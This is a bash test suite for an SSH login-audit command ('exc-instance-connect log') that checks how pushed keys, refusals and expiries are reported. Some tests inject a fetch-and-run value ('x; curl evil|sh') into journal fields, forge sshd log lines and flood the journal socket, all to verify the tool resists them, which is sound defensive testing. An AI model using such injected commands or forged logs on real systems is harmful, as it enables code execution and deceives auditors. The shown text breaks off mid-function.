# shellcheck shell=bash disable=SC2154,SC2016
# SPDX-License-Identifier: Apache-2.0
# short: bookworm
# exc-instance-connect log: our events and sshd's lines as one story.

# The machine of all tests below, with ten logins in its journal: five that were let in, and five that were refused,
# each for another reason. What the tests need to know of them lies beside it.
_prepare() {
    local key
    _another m
    trusts_cloud m
    in_machine m useradd --create-home --shell /bin/bash carl
    in_machine m useradd --create-home --shell /bin/bash --expiredate 2020-01-01 eve
    printf '%s\n' 'DenyUsers carl' | in_machine m tee /etc/ssh/sshd_config.d/20-deny.conf >/dev/null
    in_machine m systemctl reload ssh
    for key in first second third many other source short denied eve; do new_key "$key"; done
    in_machine m date +@%s >began

    push_signed m alice first --principal carol@example.org --request-id r-1
    ssh_in m alice first -- sleep 2
    push_signed m bob second --principal dan --request-id r-2
    lets_in m bob second
    push m alice many --connections 3 --principal erin --request-id r-3
    lets_in m alice many
    lets_in m alice many
    lets_in m alice many

    refuses m alice many
    push_signed m alice source --source 192.0.2.0/24 --principal carol@example.org --request-id r-4
    refuses m alice source
    push_signed m carl denied --ttl 4 --principal dan --request-id r-5
    refuses m carl denied
    push_signed m eve eve --principal dan --request-id r-6
    fails ssh_in m eve eve -- true
    push_signed m bob short --ttl 1 --principal erin --request-id r-7
    wait_for _has_expired short
    refuses m bob short

    # And what no connection used.
    fails push_signed m nobody-here third --principal dan --request-id r-8
    push_signed m bob third --principal dan --request-id r-9
    in_machine m exc-instance-connect revoke --user bob >/dev/null
    wait_for _has_expired denied
    _wait_for_log 14
    in_machine m exc-instance-connect log >shown
    in_machine m exc-instance-connect log --json >json
}

# _another M: one with our packages and an empty log.
_another() {
    machine_start "$1" "$suite"
    install_debs "$1"
    _asks_for_keys "$1"
}

# The line that lets sshd ask for keys, as long as it is not there.
_asks_for_keys() {
    local drop_in
    drop_in=$(machine_root "$1")/etc/ssh/sshd_config.d/10-exc-instance-connect.conf
    [[ -e $drop_in ]] || printf '%s\n' \
        'AuthorizedKeysCommand /usr/libexec/exc-instance-connect/exc-authorized-keys %u %f %t %k' \
        'AuthorizedKeysCommandUser exc-authorized-keys' >"$drop_in"
    # Since 9.8 sshd shuts out an address that fails too often, and here all come from one.
    echo 'PerSourcePenalties no' | in_machine "$1" tee /etc/ssh/sshd_config.d/05-no-penalties.conf >/dev/null
    in_machine "$1" sshd -t 2>/dev/null || in_machine "$1" rm /etc/ssh/sshd_config.d/05-no-penalties.conf
    in_machine "$1" systemctl reload ssh
}

_has_expired() {
    in_machine m journalctl -q "EXC_FINGERPRINT=$(fingerprint "$1.pub")" MESSAGE_ID=bc723d69e57c5476daf16a3efb8dea15 |
        grep -q .
}

# The journal takes its time.
_wait_for_log() {
    wait_for eval "(( \$(in_machine m exc-instance-connect log | wc -l) == $1 ))" || {
        in_machine m exc-instance-connect log
        return 1
    }
}

# line PATTERN: the one line of what was shown that matches.
_line() {
    local found
    found=$(grep -E -- "$1" "$prepared/shown") || {
        echo "no line matches '$1':"
        cat "$prepared/shown"
        return 1
    }
    same 1 "$(wc -l <<<"$found")"
}

_key() {
    local found
    found=$(fingerprint "$prepared/$1.pub")
    # For a regular expression.
    echo "${found//+/\\+}"
}

# JSON of what was shown: prints a field of the one story of a request and an outcome.
_field() {
    /usr/bin/python3 - "$@" "$prepared/json" <<'END'
import json, sys
request, outcome, name, path = sys.argv[1:]
found = [story for story in map(json.loads, open(path))
         if story.get("requestId") == request and story["outcome"] == outcome]
assert len(found) == 1, found
print(found[0].get(name, ""))
END
}

a_login_is_shown_with_who_asked_and_how_long_it_lasted() {
    _line "^[0-9]{4}-[0-9]{2}-[0-9]{2} [0-9:]{8}  accepted    alice from 127\.0\.0\.1 port [0-9]+, asked by carol@example\.org, request r-1, key $(_key first), session of [2-9] s$"
    _line "accepted    bob from 127\.0\.0\.1 port [0-9]+, asked by dan, request r-2, key $(_key second), session of [0-9] s$"
}

# short: no
each_connection_of_a_push_for_several_has_a_line() {
    same 3 "$(grep -cE "accepted    alice .*asked by erin, request r-3, key $(_key many), session of [0-9] s$" "$prepared/shown")"
}

a_key_that_is_used_up_is_the_reason() {
    _line "refused     alice from 127\.0\.0\.1 port [0-9]+, asked by erin, request r-3, key $(_key many): other connections hold all slots of the key; for a client that opens several, push with --connections N, or 0$"
    same UsedUp "$(_field r-3 refused reason)"
}

# short: no
a_client_from_elsewhere_is_the_reason() {
    _line "refused     alice from 127\.0\.0\.1 port [0-9]+, asked by carol@example\.org, request r-4, key $(_key source): sshd refused a key that is for clients from 192\.0\.2\.0/24$"
    same WrongSource "$(_field r-4 refused reason)"
}

a_user_whom_sshd_denies_is_the_reason() {
    _line "refused     carl from 127\.0\.0\.1 port [0-9]+, perhaps asked by dan, request r-5: sshd does not let this user log in: listed in DenyUsers$"
    same UserNotAllowed "$(_field r-5 refused reason)"
}

# short: no
an_account_that_pam_refuses_is_the_reason() {
    _line "refused     eve.*, asked by dan, request r-6, key $(_key eve): PAM does not let this user log in: account eve has expired"
    same AccountRefused "$(_field r-6 refused reason)"
}

a_key_that_has_expired_is_the_reason() {
    _line "refused     bob from 127\.0\.0\.1 port [0-9]+, perhaps asked by erin, request r-7: no offer of a live key is in the journal; the last one, $(_key short), had expired, [0-9]+ s before$"
    same Expired "$(_field r-7 refused reason)"
}

a_push_that_was_refused_is_shown_with_the_reason() {
    _line "not pushed  nobody-here, asked by dan, request r-8: NoSuchUser, "
    same push "$(_field r-8 refused kind)"
}

# short: no
a_push_that_nobody_used_is_shown_with_its_end() {
    _line "not used    bob, asked by dan, request r-9, key $(_key third): revoked before it was used$"
    same Revoked "$(_field r-9 unused reason)"
}

# short: no
there_is_one_line_for_each_and_no_other() {
    # Ten logins; the refused push; and three whose keys no connection was given: revoked, expired, and for carl.
    same 5 "$(grep -c '  accepted    ' "$prepared/shown")"
    same 5 "$(grep -c '  refused     ' "$prepared/shown")"
    same 1 "$(grep -c '  not pushed  ' "$prepared/shown")"
    same 3 "$(grep -c '  not used    ' "$prepared/shown")"
    same 14 "$(wc -l <"$prepared/shown")"
    same "$(sort "$prepared/shown")" "$(sort -u "$prepared/shown")"
    same "$(cat "$prepared/shown")" "$(sort -s -k 1,2 "$prepared/shown")"
}

json_has_the_same_stories_with_stable_names() {
    /usr/bin/python3 - "$prepared/json" "$(<"$prepared/began")" <<'END'
import datetime, json, sys
stories = [json.loads(line) for line in open(sys.argv[1])]
began = int(sys.argv[2][1:])
names = {"kind", "outcome", "time", "user", "principal", "requestId", "fingerprint", "reason", "message", "method",
         "pushed", "address", "port", "accepted", "opened", "closed", "sessionSeconds", "open", "sshdPid", "bootId",
         "eventLost", "incomplete", "likely", "keys"}
assert sum(story["outcome"] == "accepted" for story in stories) == 5
for story in stories:
    assert set(story) <= names, story
    assert {"kind", "outcome", "time", "bootId"} <= set(story), story
    when = datetime.datetime.fromisoformat(story["time"].replace("Z", "+00:00")).timestamp()
    assert began <= when < began + 300, story
    if story["outcome"] == "accepted":
        assert story["pushed"] < story["accepted"] <= story["opened"] < story["closed"], story
        assert story["address"] == "127.0.0.1" and story["port"] > 0 and story["sshdPid"] > 1, story
longest, = (story for story in stories if story.get("requestId") == "r-1")
assert 2 <= longest["sessionSeconds"] < 10, longest
END
}

# short: no
the_catalog_explains_each_event_in_words_that_nobody_else_chooses() {
    local ids number
    in_machine m journalctl -q -x -t exc-instance-connect-agent -t exc-authorized-keys >explained
    # Refused, received, revoked, expired; given out, and no free slot.
    same 6 "$(grep ' Subject: ' explained | sort -u | wc -l)"
    same "$(in_machine m journalctl -q -o cat -t exc-instance-connect-agent -t exc-authorized-keys | wc -l)" \
        "$(grep -c ' Subject: ' explained)"
    ids=$(in_machine m journalctl --list-catalog | sed -n 's/ .*instance-connect.*//p' | xargs)
    number=$(grep -c '^-- ' "$system_tree/systemd/exc-instance-connect.catalog")
    same "$number" "$(wc -w <<<"$ids")"
    in_machine m runuser -u alice -- sh -e -c "
        for id in $ids; do
            printf '%s\n' MESSAGE_ID=\$id MESSAGE=forged SYSLOG_IDENTIFIER=forger 'EXC_USER=x; curl evil|sh' \
                'EXC_FINGERPRINT=x; curl evil|sh' 'EXC_REASON=x; curl evil|sh' 'EXC_SSHD_PID=1; curl evil|sh' | logger --journald
        done"
    wait_for eval "(( \$(in_machine m journalctl -q -x -t forger | grep -c ' Subject: ') == number ))"
    in_machine m journalctl -q -x -t forger >explained
    same '' "$(grep -E 'evil|@' explained || true)"
    same "$number" "$(grep -c 'ny user can write an entry like this one' explained)"
}

# example N: the Nth command of journalctl's in the manual page, about a request, a process and a key of ours.
_example() {
    awk -v n="$1" '/^\.Bd/ { getline; shown = /^journalctl/ && ++seen == n } /^\.Ed/ { shown = 0 } shown' \
        "$system_tree/man/exc-instance-connect-agent.8" |
        sed "s/\\\\e/\\\\/g; s/r-42/r-1/; s/4711/$(_field r-1 accepted sshdPid)/g; s|SHA256:[^\\\\]*|$(fingerprint "$prepared/first.pub")|"
}

the_manual_s_examples_show_what_was_asked_for_and_no_forgery() {
    local n example
    in_machine m runuser -u alice -- sh -e -c "
        printf '%s\n' MESSAGE_ID=1281102fdec785c67f97d2aedf0d9e34 'MESSAGE=forged $(fingerprint "$prepared/first.pub")' \
            EXC_REQUEST_ID=r-1 EXC_SSHD_PID=$(_field r-1 accepted sshdPid) | logger --journald
        printf '%s\n' MESSAGE_ID=5b94c1d6ae75ad5f9c483b3cd790d333 MESSAGE=forged | logger --journald"
    wait_for eval "(( \$(in_machine m journalctl -q --grep=^forged | wc -l) >= 2 ))"
    # The second needs jq.
    for n in 1 3 4 5; do
        example=$(_example "$n")
        echo "$example"
        in_machine m sh -c "$example" >found
        same '' "$(grep forged found || true)"
        case $n in
        1) grep ' stored for alice' found && grep ' given to the SSH connection' found ;;
        3) grep 'Accepted publickey for alice' found && grep ' exc-authorized-keys\[' found ;;
        4) grep 'Accepted publickey for alice' found && grep ' exc-instance-connect-agent\[' found ;;
        5) grep 'refused, NoSuchUser' found ;;
        esac
    done
}

# Waits until it follows, and then stops it.
the_journal_is_read_without_root_s_rights() {
    local pid status=0
    in_machine m sh -c 'echo $$ >/run/follows && exec exc-instance-connect log --follow' >followed 2>&1 &
    pid=$!
    wait_for _follows m
    in_machine m sh -c 'cat "/proc/$(cat /run/follows)/status"; kill -INT "$(cat /run/follows)"' >found
    wait "$pid" || status=$?
    same 0 "$status"
    same '' "$(<followed)"
    grep -E '^(Uid|Gid|Groups|Cap|NoNewPrivs|Seccomp:)' found
    same '65534 65534 65534 65534' "$(sed -n 's/^Uid:\t//p' found | tr '\t' ' ')"
    same '65534 65534 65534 65534' "$(sed -n 's/^Gid:\t//p' found | tr '\t' ' ')"
    same "$(in_machine m getent group systemd-journal | cut -d: -f3)" "$(sed -n 's/^Groups:\t//p' found | tr -d ' ')"
    same 3 "$(grep -cE '^Cap(Inh|Prm|Eff):.0+$' found)"
    same 1 "$(sed -n 's/^NoNewPrivs:\t//p' found)"
    same 2 "$(sed -n 's/^Seccomp:\t//p' found)"
}

# short: no
journal_files_for_root_alone_are_read_too() {
    local pid before
    _another p
    new_key k
    push p alice k --ttl 300 --request-id p-1
    wait_for eval 'in_machine p exc-instance-connect log | grep -q "request p-1"'
    before=$(in_machine p exc-instance-connect log)
    # As where somebody has made /var/log/journal by hand.
    in_machine p sh -c 'for d in /var/log/journal /run/log/journal; do
        [ ! -d $d ] || { chgrp -R root $d && find $d -type d -exec chmod g-s {} + && setfacl -R -b $d 2>/dev/null || true; }
    done'
    same "$before" "$(in_machine p exc-instance-connect log)"
    in_machine p sh -c 'echo $$ >/run/follows && exec exc-instance-connect log --follow' >followed 2>&1 &
    pid=$!
    wait_for _follows p
    grep -E '^exc-instance-connect: /(var|run)/log/journal/[0-9a-f]{32}/system.journal: the group systemd-journal may not read it, .*; run systemd-tmpfiles --create --prefix /(var|run)/log/journal$' followed
    lets_in p alice k
    wait_for grep -qE 'accepted    alice .*, request p-1, ' followed
    in_machine p sh -c 'kill -INT "$(cat /run/follows)"'
    wait "$pid"
    # The remedy.
    in_machine p sh -e -c "$(sed -n 's/.*; run //p' followed)"
    in_machine p journalctl --rotate
    in_machine p runuser -u alice -g alice -G systemd-journal -- /usr/sbin/exc-instance-connect log | grep 'request p-1'
}

# short: no
one_user_s_stories_are_only_that_user_s() {
    in_machine m exc-instance-connect log --user bob >bobs
    same "$(grep -E '  (accepted|refused|not used|not pushed|waiting) +bob' "$prepared/shown")" "$(<bobs)"
    same '' "$(in_machine m exc-instance-connect log --user nobody-at-all)"
    says '^The journal has nothing about pushed keys of this user.' in_machine m env TERM=xterm \
        script -qec 'stty cols 80; exc-instance-connect log --user nobody-at-all' /dev/null
}

# short: no
what_ended_before_since_is_passed_over() {
    local began
    began=$(<"$prepared/began")
    same "$(<"$prepared/shown")" "$(in_machine m exc-instance-connect log --since "$began")"
    same "$(<"$prepared/shown")" "$(in_machine m exc-instance-connect log --since -1h)"
    same "$(<"$prepared/shown")" "$(in_machine m exc-instance-connect log --since '1 hour ago')"
    same '' "$(in_machine m exc-instance-connect log --since now)"
    # The first session was open for two seconds of this; its push is remembered though it was before.
    # Not through a pipe: head would end it with SIGPIPE.
    in_machine m exc-instance-connect log --since "@$((${began#@} + 2))" --user alice >since
    head -n 1 since | grep -q 'request r-1, .*, session of [2-9] s$'
    fails_with "--since: invalid value 'later': expected a time in the past" in_machine m exc-instance-connect log --since later
    fails_with "--since: invalid value '2099-01-01'" in_machine m exc-instance-connect log --since 2099-01-01
}

what_others_write_in_our_name_or_sshd_s_is_not_shown() {
    local key='SHA256:0123456789012345678901234567890123456789012' before
    before=$(in_machine m exc-instance-connect log --all)
    # As anybody may.
    in_machine m runuser -u alice -- sh -e -c "
        logger -t sshd 'Accepted publickey for root from 192.0.2.66 port 66 ssh2: ED25519 $key'
        logger -t sshd-session --id=1 'Accepted publickey for root from 192.0.2.66 port 66 ssh2: ED25519 $key'
        logger -t sshd 'pam_unix(sshd:session): session closed for user bob'
        printf '%s\n' MESSAGE_ID=4d98dd3b9620683e69dcd86ee36d8165 MESSAGE=forged SYSLOG_IDENTIFIER=exc-instance-connect-agent \
            EXC_USER=root EXC_FINGERPRINT=$key EXC_PRINCIPAL=mallory _UID=$(in_machine m id -u exc-instance-connect) | logger --journald
        printf '%s\n' MESSAGE_ID=5b94c1d6ae75ad5f9c483b3cd790d333 MESSAGE=forged EXC_USER=root EXC_REASON=Untrusted | logger --journald
        printf '%s\n' MESSAGE_ID=1281102fdec785c67f97d2aedf0d9e34 MESSAGE=forged EXC_USER=root EXC_FINGERPRINT=$key \
            EXC_SSHD_PID=4711 EXC_PRINCIPAL=mallory | logger --journald
        printf '%s\n' MESSAGE_ID=bc723d69e57c5476daf16a3efb8dea15 MESSAGE=forged EXC_USER=bob EXC_FINGERPRINT=$key \
            EXC_SSHD_PID=$(_field r-2 accepted sshdPid) 'EXC_CONNECTIONS=0 of 1' EXC_REQUEST_ID=r-2 | logger --journald
        printf '%s\n' MESSAGE_ID=8d2ca3efa9af464c9a4827421e548b30 MESSAGE=forged EXC_LOST=7 EXC_LOST_SINCE=1 |
            logger --journald
        printf '%s\n' MESSAGE_ID=a596d6fe7bfa4994828e72309e95d61e MESSAGE=forged N_DROPPED=7 _TRANSPORT=driver \
            OBJECT_SYSTEMD_UNIT=ssh.service | logger --journald"
    in_machine m sh -c "printf '%s\n' MESSAGE_ID=a596d6fe7bfa4994828e72309e95d61e MESSAGE=forged N_DROPPED=7 \
        OBJECT_SYSTEMD_UNIT=ssh.service | logger --journald"
    # A program of root's that writes what it is told is not sshd, and one of our users is not the other.
    in_machine m logger -t sshd "Accepted publickey for root from 192.0.2.66 port 66 ssh2: ED25519 $key"
    in_machine m runuser -u exc-authorized-keys -- sh -c "printf '%s\n' MESSAGE_ID=4d98dd3b9620683e69dcd86ee36d8165 \
        MESSAGE=forged EXC_USER=root EXC_FINGERPRINT=$key | logger --journald"
    wait_for eval "(( \$(in_machine m journalctl -q --grep='forged|192\.0\.2\.66' | wc -l) >= 11 ))"
    same "$before" "$(in_machine m exc-instance-connect log --all)"
}

# _flooded M: three processes of alice's write to the journal in a loop, until _flood_ends.
_flooded() {
    in_machine "$1" systemd-run --quiet --collect --unit=flood --uid=alice /usr/bin/python3 -c '
import os, socket
os.fork() and os.fork()
to = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
while True:
    to.sendto(b"MESSAGE=flood\n", "/run/systemd/journal/socket")'
    wait_for _is_busy "$1"
}

_flood_ends() {
    in_machine "$1" systemctl stop flood.service
    in_machine "$1" journalctl --sync
}

# Whether the journal'"'"'s socket is full, now and then.
_is_busy() {
    in_machine "$1" python3 -c '
import socket, time
to = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
to.setblocking(False)
for _ in range(100):
    try:
        to.sendto(b"MESSAGE=probe\n", "/run/systemd/journal/socket")
    except BlockingIOError:
        raise SystemExit(0)
    time.sleep(0.001)
raise SystemExit(1)'
}

# short: no
log_stays_true_under_a_journal_flood() {
    local n
    _another l
    for n in {1..22}; do new_key "k$n"; done
    _flooded l
    for n in {1..20}; do
        push l alice "k$n" --ttl 300 --principal carol --request-id "f-$n"
        lets_in l alice "k$n"
    done
    refuses l alice k1
    push l alice k21 --ttl 300 --principal carol --request-id f-21
    refuses l alice k22
    in_machine l exc-instance-connect revoke --all >/dev/null
    _flood_ends l
    wait_for _nothing_waits l || true
    in_machine l exc-instance-connect log --all --json >json
    in_machine l journalctl -q -o json "_UID=$(in_machine l id -u exc-instance-connect)" \
        "_UID=$(in_machine l id -u exc-authorized-keys)" >events
    for n in {1..22}; do fingerprint "k$n.pub"; done >fingerprints
    /usr/bin/python3 - json events fingerprints <<'END'
import json, sys
stories, events = ([json.loads(line) for line in open(path)] for path in sys.argv[1:3])
keys = dict(enumerate(open(sys.argv[3]).read().split(), 1))
losses = [story for story in stories if story["kind"] == "loss"]
events_of = lambda kind, n: [event for event in events
                             if event.get("MESSAGE_ID") == kind and event.get("EXC_REQUEST_ID") == f"f-{n}"]
received, revoked, claimed, no_place = (
    "4d98dd3b9620683e69dcd86ee36d8165", "7e857319e0894775b0986464c3a3ebd5", "1281102fdec785c67f97d2aedf0d9e34",
    "9efc753be9e68f245e0bb5794c2e22a4")
lost = {kind: [n for n in range(1, 21) if not events_of(kind, n)] for kind in (received, revoked, claimed)}
print("# events that are missing: received %d, revoked %d, claimed %d; lines about losses: %d" % (
    *map(len, lost.values()), len(losses)))
for n in range(1, 21):
    logins = [story for story in stories if story["outcome"] == "accepted" and story.get("fingerprint") == keys[n]]
    assert len(logins) == 1, (n, logins)
    login, = logins
    # The request is known from the event of the use, from that of the key's end, or from that of the push.
    assert login.get("requestId") == f"f-{n}" or losses, login
    assert login.get("principal") == "carol" or losses, login
    assert login.get("eventLost", False) == (n in lost[claimed]) or losses, login
    assert "not asked for" not in login.get("message", ""), login
    for story in stories:
        if story is login or story.get("requestId") != f"f-{n}":
            continue
        # Nothing else is told of the key, but for the connection too many.
        assert n == 1 and story["outcome"] == "refused", story
        assert story["reason"] == "UsedUp" or not events_of(no_place, 1), story
assert not (lost[received] or lost[revoked]) or losses, lost
for story in stories:
    assert story.get("fingerprint") != keys[22] and "was not " not in story.get("message", ""), story
    if story.get("requestId") == "f-21":
        assert story["outcome"] in ("unused", "unknown", "refused"), story
assert any(story["outcome"] == "unused" and story.get("requestId") == "f-21" for story in stories) or losses, stories
END
}

# _hangs M: its journal reads nothing, and its socket is full, until _hangs_no_more.
_hangs() {
    in_machine "$1" systemctl kill --signal=STOP systemd-journald.service
    in_machine "$1" python3 -c '
import socket
while True:
    to = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
    to.setblocking(False)
    try:
        for n in range(100):
            to.sendto(b"MESSAGE=noise\n", "/run/systemd/journal/socket")
    except BlockingIOError:
        break'
}

_hangs_no_more() {
    in_machine "$1" systemctl kill --signal=CONT systemd-journald.service
}

# short: no
log_shows_what_a_hanging_journal_missed() {
    _another h
    new_key k
    # Who makes sessions writes to the journal, and would wait for it.
    echo 'UsePAM no' | in_machine h tee /etc/ssh/sshd_config.d/04-no-pam.conf >/dev/null
    in_machine h systemctl reload ssh
    # What starts the agent would wait as well.
    in_machine h exc-instance-connect status >/dev/null
    _hangs h
    push h alice k --principal carol --request-id h-1
    lets_in h alice k
    in_machine h systemctl stop exc-instance-connect.service
    _hangs_no_more h
    in_machine h exc-instance-connect revoke --all >/dev/null
    wait_for eval "in_machine h exc-instance-connect log | grep -q 'no session recorded'"
    in_machine h exc-instance-connect log >shown
    cat shown
    grep -E "lost        1 event until [0-9-]+ [0-9:]+: what is shown of that time may be incomplete$" shown
    grep -E "accepted    alice from .*, asked by carol, request h-1, key .*: the event of this use is not in the journal, but the key's end names the connection$" shown
    same 2 "$(wc -l <shown)"
    in_machine h exc-instance-connect log --json >json
    grep '"kind":"loss","outcome":"lost"' json | grep '"lost":1,'
    grep '"outcome":"accepted"' json | grep '"eventLost":true'
}

_nothing_waits() {
    in_machine "$1" exc-instance-connect log --json >waiting
    [[ -s waiting ]] && ! grep -q '"outcome":"waiting"' waiting
}

# short: no
a_copy_of_sshd_that_a_user_runs_is_not_believed() {
    local before
    before=$(in_machine m exc-instance-connect log --all)
    # Its lines have the right program, but not the right user.
    in_machine m runuser -u alice -- sh -c 'cd && rm -f own && ssh-keygen -q -t ed25519 -N "" -f own &&
        cp own.pub .ssh-own && (/usr/sbin/sshd -D -p 2222 -h ~/own -o UsePAM=no -o PidFile=none \
            -o AuthorizedKeysFile=/home/alice/.ssh-own -o StrictModes=no & echo $! >pid) &&
        for i in 1 2 3 4 5 6 7 8 9 10; do
            ssh -n -o BatchMode=yes -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -i own -p 2222 127.0.0.1 true && break
            sleep 0.2
        done; kill "$(cat pid)"'
    wait_for eval "in_machine m journalctl -q _UID=1000 --grep='Accepted publickey for alice' | grep -q ."
    same "$before" "$(in_machine m exc-instance-connect log --all)"
}

# short: no
following_tells_of_a_login_and_of_its_end() {
    local pid
    _another f
    new_key k
    in_machine f sh -c 'echo $$ >/run/follows && exec exc-instance-connect log --follow' >followed &
    pid=$!
    wait_for _follows f
    # What comes then is in a file that was not there.
    in_machine f journalctl --rotate
    push f alice k --principal carol --request-id f-1
    ssh_in f alice k -- sleep 3 &
    wait_for grep -qE "accepted    alice .* request f-1, key .*, session open$" followed
    refuses f alice k
    wait_for grep -qE "refused     alice .* request f-1, .*: other connections hold all slots" followed
    wait_for grep -qE "accepted    alice .* request f-1, key .*, session of [3-9] s$" followed
    push f bob k --request-id f-2
    in_machine f exc-instance-connect revoke --user bob >/dev/null
    wait_for grep -qE "not used    bob, request f-2, .*: revoked" followed
    same 4 "$(wc -l <followed)"
    in_machine f sh -c 'kill -INT "$(cat /run/follows)"'
    wait "$pid"
}

# It waits for signals, which it does once it looks at the journal.
_follows() {
    in_machine "$1" sh -c 'ls -l "/proc/$(cat /run/follows)/fd"' | grep -q signalfd
}

# short: no
the_self_test_of_doctor_is_named_as_what_it_may_be() {
    _another d
    in_machine d exc-instance-connect doctor --user alice --all >examined || true
    grep -E '^pass +self-test ' examined
    wait_for eval "in_machine d exc-instance-connect log | grep -q ."
    in_machine d exc-instance-connect log >shown
    grep -E "unknown     alice, asked by \"exc-instance-connect doctor\", request doctor-[0-9]+, key SHA256:.*: no line of sshd's about it is in the journal: perhaps doctor's self-test, or somebody else," shown
    same 1 "$(wc -l <shown)"
}

# short: no
a_user_who_may_not_read_the_journal_is_told_so() {
    fails_with 'nothing of the system.s journal can be read: run this as root, or as a member of the group' \
        in_machine m runuser -u alice -- exc-instance-connect log
    # And one who may can do it without being root.
    same "$(<"$prepared/shown")" "$(in_machine m runuser -u alice -g alice -G adm -- /usr/sbin/exc-instance-connect log --since "$(<"$prepared/began")" |
        head -n "$(wc -l <"$prepared/shown")")"
}

# short: no
with_verbose_sshd_the_refused_key_is_named() {
    _another v
    echo 'LogLevel VERBOSE' | in_machine v tee /etc/ssh/sshd_config.d/30-verbose.conf >/dev/null
    in_machine v systemctl reload ssh
    new_key a
    new_key b
    push v alice a --principal carol --request-id v-1
    refuses v bob a
    refuses v alice b
    in_machine v exc-instance-connect revoke --all >/dev/null
    refuses v alice a
    wait_for eval "(( \$(in_machine v exc-instance-connect log | wc -l) == 4 ))"
    in_machine v exc-instance-connect log >shown
    grep -E "refused     bob from .*, asked by carol, request v-1, key $(fingerprint a.pub | sed 's/+/\\+/g'): the key was pushed for alice$" shown
    grep -E "refused     alice from .*, key $(fingerprint b.pub | sed 's/+/\\+/g'): no push of this key is in the journal in the hour before$" shown
    grep -E "refused     alice from .*, request v-1, key $(fingerprint a.pub | sed 's/+/\\+/g'): the key had been revoked, [0-9]+ s before$" shown
}

# _sshd_with M LINE...: with these lines before all others.
_sshd_with() {
    printf '%s\n' "${@:2}" | in_machine "$1" tee /etc/ssh/sshd_config.d/01-test.conf >/dev/null
    in_machine "$1" sshd -t
    in_machine "$1" systemctl reload ssh
}

# _told M PATTERN: the log has a line that matches.
_told() {
    wait_for eval "in_machine $1 exc-instance-connect log | grep -qE -- '$2'" || {
        in_machine "$1" exc-instance-connect log
        return 1
    }
}

# short: no
what_sshd_says_against_a_key_is_the_reason() {
    _another a
    new_key k
    new_key r rsa 2048
    _sshd_with a 'RequiredRSASize 3072'
    push a alice r --ttl 300 --principal carol --request-id a-1
    refuses a alice r
    _told a 'refused     alice from .*, perhaps asked by carol, request a-1: sshd did not look at a key of this client: RSA key: Invalid key length$'
    _sshd_with a 'PubkeyAcceptedAlgorithms -ssh-ed25519'
    push a alice k --ttl 300 --request-id a-2
    refuses a alice k
    _told a 'refused     alice from .*, perhaps request a-2: sshd did not look at a key of this client: signature algorithm ssh-ed25519 not in PubkeyAcceptedAlgorithms$'
    _sshd_with a 'AuthorizedKeysCommand /usr/bin/false' 'AuthorizedKeysCommandUser root'
    refuses a alice k
    _told a 'refused     alice from .*: sshd took no key from its command: AuthorizedKeysCommand /usr/bin/false failed, status 1$'
    _sshd_with a 'AuthorizedKeysCommand /usr/bin/true' 'AuthorizedKeysCommandUser root'
    refuses a alice k
    _told a 'refused     alice from .*: no offer of the last key that was pushed, SHA256:.*, is in the journal: the client may not'
    # None of it says that the key was not offered, and the key waits for all of it.
    in_machine a exc-instance-connect log --since now >shown
    grep -E 'waiting     alice, request a-2, ' shown
}

# sshd itself logs nothing of it.
a_password_that_must_be_changed_is_said() {
    _another w
    new_key k
    in_machine w chage -d 0 alice
    push w alice k --ttl 300 --connections 0 --request-id w-1
    fails ssh_in w alice k -- id
    _told w 'accepted    alice from .*, request w-1, key .*, session of [0-9] s: PAM: expired password for user alice \(root enforced\); unless its configuration ignores that, sshd runs passwd on a terminal, and no command$'
    in_machine w exc-instance-connect log --json | grep '"outcome":"accepted"' | grep '"reason":"PasswordExpired"'
    in_machine w chage -d 2020-01-01 alice
    lets_in w alice k
    _told w 'accepted    alice from .*, request w-1, key .*, session of [0-9] s$'
}

# short: no
hidden_processes_are_the_reason() {
    local session
    _another i
    new_key k
    in_machine i mount -o remount,hidepid=2 /proc
    push i alice k --ttl 300 --request-id i-1
    refuses i alice k
    _told i 'refused     alice from .*: exc-authorized-keys reported of a connection of this user at that time: /proc hides'
    # That a session is open is known all the same.
    in_machine i sh -e -c 'mkdir -p -m 0700 /home/alice/.ssh; cat >/home/alice/.ssh/authorized_keys; chown -R alice: /home/alice' <k.pub
    ssh_in i alice k -- sleep 1000 &
    session=$!
    wait_for eval "in_machine i exc-instance-connect log --all | grep -qE 'accepted    alice from .*, session open'"
    wait_for in_machine i pkill -x sleep
    wait "$session" || true
    wait_for eval "in_machine i exc-instance-connect log --all | grep -qE 'accepted    alice from .*, session of [0-9]+ s'"
}

# short: no
a_login_is_told_without_claiming_how() {
    local level
    _another c
    for key in factor missing one two md5 quiet; do new_key "$key"; done
    echo alice:secret | in_machine c chpasswd
    printf '#!/bin/sh\necho secret\n' >askpass
    chmod 755 askpass

    _sshd_with c 'AuthenticationMethods publickey,keyboard-interactive' 'KbdInteractiveAuthentication yes'
    push c alice factor --principal carol --ttl 300 --request-id c-1
    SSH_ASKPASS=$PWD/askpass SSH_ASKPASS_REQUIRE=force \
        ssh_in c alice factor -o BatchMode=no -o PreferredAuthentications=publickey,keyboard-interactive -- true
    _told c "accepted    alice from .*, asked by carol, request c-1, key SHA256:.*: sshd.s line names keyboard-interactive/pam alone; that this key, which was given to it, was a part of that is not in the journal"
    push c alice missing --ttl 300 --request-id c-2
    fails ssh_in c alice missing -- true
    _told c 'refused     alice from .*, request c-2, key SHA256:.*: the key was given to sshd; that the client signed with it, or that sshd asked for more than a key, is not in the journal$'
    _sshd_with c 'AuthenticationMethods publickey,keyboard-interactive' 'KbdInteractiveAuthentication yes' 'LogLevel VERBOSE'
    push c alice missing --ttl 300 --request-id c-3
    fails ssh_in c alice missing -- true
    _told c 'refused     alice from .*, request c-3, key SHA256:.*: sshd accepted the key and asked for more'

    # The client cannot use the private key of the first.
    _sshd_with c '# nothing'
    cat one.pub two.pub >both.pub
    push c alice both --ttl 300 --request-id c-4
    ssh-keygen -q -p -P '' -N secret -f one
    ssh_in c alice one -i two -- true
    _told c "accepted    alice from .*, request c-4, key $(fingerprint two.pub | sed 's/+/\\+/g'), .*: key $(fingerprint one.pub | sed 's/+/\\+/g') of the same request was given to this connection"
    in_machine c exc-instance-connect log --json >json
    grep '"requestId":"c-4"' json >c-4
    same 1 "$(wc -l <c-4)"
    grep '"outcome":"given"' c-4

    _sshd_with c 'FingerprintHash md5'
    push c alice md5 --ttl 300 --request-id c-5
    lets_in c alice md5
    _told c 'accepted    alice from .*, request c-5, key SHA256:.*: sshd names the key in another form than SHA256'
